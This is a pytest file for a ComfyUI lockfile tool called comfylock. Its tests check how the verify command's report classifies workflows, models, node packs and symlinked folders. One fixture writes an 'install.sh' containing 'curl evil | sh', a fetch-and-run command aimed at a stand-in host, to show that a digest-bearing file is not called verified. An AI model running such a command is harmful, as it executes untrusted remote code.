"""The dependency report: nothing is called verified that was not compared, or that is not right."""

from __future__ import annotations

import hashlib
import json
import shutil
from typing import TYPE_CHECKING, Any

from msgspec.structs import replace

from comfylock.lockfile.schema import Gap
from tests.builders import encoded, node, ui
from tests.dependency_report import falsely_verified
from tests.functional.verify.conftest import Ended, found, verify
from tests.installation import DETAIL

if TYPE_CHECKING:
    from tests.installation import Tree

GAP = Gap(
    "model",
    "loras/lost.safetensors",
    "no-source",
    "nobody says where it is from",
    workflows=("workflows/one.json",),
    hint='[models] "loras/lost.safetensors" = { url = "…" }',
)


def with_gap(tree: Tree, gap: Gap = GAP) -> Tree:
    """The tree whose lock has something that is not pinned."""
    tree.write(replace(tree.read(), unresolved=(gap,)))
    return tree


def item(ended: Ended, name: str) -> dict[str, Any]:
    assert falsely_verified(ended.data) == []
    (one,) = (item for item in ended.data["items"] if item["name"] == name)
    found: dict[str, Any] = one
    return found


def workflows(tree: Tree) -> list[str]:
    return [entry.path for entry in tree.read().workflows]


def test_a_workflow_with_something_unresolved_is_not_verified(tree: Tree) -> None:
    path = workflows(tree)[0]
    with_gap(tree, replace(GAP, workflows=(path,)))
    ended = verify(tree, "--json", installed=False)
    assert ended.code == 1
    one = item(ended, path)
    assert (one["status"], one["error"]) == (
        "differs",
        "`loras/lost.safetensors` is unresolved: nobody says where it is from",
    )
    lost = item(ended, GAP.name)
    assert (lost["about"], lost["status"]) == ("model", "unknown")
    unresolved = next(f for f in ended.data["findings"] if f["kind"] == "Unresolved")
    assert (unresolved["about"], unresolved["mend"]) == ("model", GAP.hint)
    assert path in unresolved["place"]
    assert " 0 of " in verify(tree, installed=False).out.replace("files:", "")


def test_without_a_hint_the_mend_is_to_lock_again(tree: Tree) -> None:
    with_gap(tree, replace(GAP, hint=None, workflows=()))
    findings = verify(tree, "--json", installed=False).data["findings"]
    assert [f["mend"] for f in findings if f["kind"] == "Unresolved"] == ["comfylock lock"]


def test_what_the_project_allows_to_be_unresolved_is_not_verified_either(tree: Tree) -> None:
    path = workflows(tree)[0]
    with_gap(tree, replace(GAP, workflows=(path,)))
    document = json.loads((tree.project / path).read_text("utf-8"))
    document["nodes"].append(node(99, "LoraLoader", "lost.safetensors"))
    (tree.project / path).write_bytes(encoded(document))
    lock = tree.read()
    needed = tuple(sorted((*lock.workflows[0].models, GAP.name)))
    tree.write(replace(lock, workflows=(replace(lock.workflows[0], models=needed),)))
    settings = tree.project / "comfylock.toml"
    settings.write_text(f"{settings.read_text()}[lock]\nallow-unresolved = true\n")
    ended = verify(tree, "--json", installed=False)
    assert (ended.code, ended.found) == (0, set())
    one = item(ended, path)
    assert one["status"] == "unproven"
    assert "loras/lost.safetensors" in one["error"]


def test_a_pin_that_does_not_fit_touches_every_workflow_that_it_is_for(tree: Tree) -> None:
    path = workflows(tree)[0]
    settings = tree.project / "comfylock.toml"
    text = settings.read_text().replace("[packs]", '[packs]\nalpha = "==9.9.9"')
    settings.write_text(text)
    ended = found(tree)
    assert ("RangeExcludesPin", "alpha") in ended.found
    assert item(ended, path)["status"] == "differs"
    assert item(ended, "alpha")["status"] == "differs"  # as locked, and no longer as asked for


def test_a_workflow_that_nobody_locked_is_extra(tree: Tree) -> None:
    (tree.project / "workflows/new.json").write_bytes(encoded(ui(node(1, "KSampler"))))
    ended = verify(tree, "--json", installed=False)
    assert item(ended, "workflows/new.json")["status"] == "extra"
    assert ("MissingWorkflow", "workflows/new.json") in ended.found


def test_a_workflow_that_cannot_be_read_is_unknown(tree: Tree) -> None:
    path = workflows(tree)[0]
    (tree.project / path).write_bytes(b'{"nodes": [')
    ended = verify(tree, "--json", installed=False)
    assert ended.code == 2
    assert item(ended, path)["status"] == "unknown"


def test_a_workflow_with_a_node_that_cannot_be_read_is_not_verified(tree: Tree) -> None:
    path = workflows(tree)[0]
    text = (tree.project / path).read_text("utf-8")
    at = text.index('"nodes":') + len('"nodes":')
    at = text.index("[", at) + 1
    (tree.project / path).write_text(f"{text[:at]}17, {text[at:]}", "utf-8")
    ended = verify(tree, "--json", installed=False)
    assert ended.found == {("workflow-unread", path)}
    assert item(ended, path)["status"] == "unproven"
    assert verify(tree, "--strict", installed=False).code == 1


def test_a_file_that_only_carries_the_locks_digest_is_not_called_verified(tree: Tree) -> None:
    mark = hashlib.sha256((tree.project / "comfy.lock").read_bytes()).hexdigest()
    (tree.project / "install.sh").write_text(f"# comfy.lock sha256: {mark}\ncurl evil | sh\n")
    ended = verify(tree, "--json", installed=False)
    assert ended.code == 0
    assert item(ended, "install.sh")["status"] == "unproven"


def test_what_a_warning_is_found_about_is_not_verified(tree: Tree) -> None:
    (tree.nodes / "alpha/notes.txt").write_text("mine")
    ended = found(tree)
    assert ended.code == 0
    assert item(ended, "alpha")["status"] == "differs"


def test_an_unreadable_model_is_unknown(tree: Tree) -> None:
    path = tree.model("loras/sub/detail.safetensors")
    path.unlink()
    path.mkdir()
    (path / "inner").write_bytes(DETAIL)
    assert item(found(tree), "loras/sub/detail.safetensors")["status"] == "differs"


def test_folders_that_lead_to_a_volume_are_comfyuis_own(tree: Tree) -> None:
    for name in ("input", "output", "user", "temp"):
        there, here = tree.root / "volume" / name, tree.comfyui / name
        there.mkdir()
        if here.is_dir():
            shutil.rmtree(here)
        here.symlink_to(there)
        (there / "mine.png").write_bytes(b"mine")
    ended = found(tree)
    assert ended.found == set()
    assert item(ended, "comfyui")["status"] == "verified"


def test_a_file_that_is_gone_is_told_where_no_link_is(tree: Tree) -> None:
    (tree.comfyui / "input/example.png").unlink()
    assert found(tree).found == {("comfyui-missing-file", "comfyui")}


def test_code_behind_a_link_is_not_comfyuis_own(tree: Tree) -> None:
    (tree.root / "volume/comfy_extras").mkdir()
    (tree.comfyui / "comfy_extras").symlink_to(tree.root / "volume/comfy_extras")
    assert found(tree).found == {("comfyui-untracked", "comfyui")}
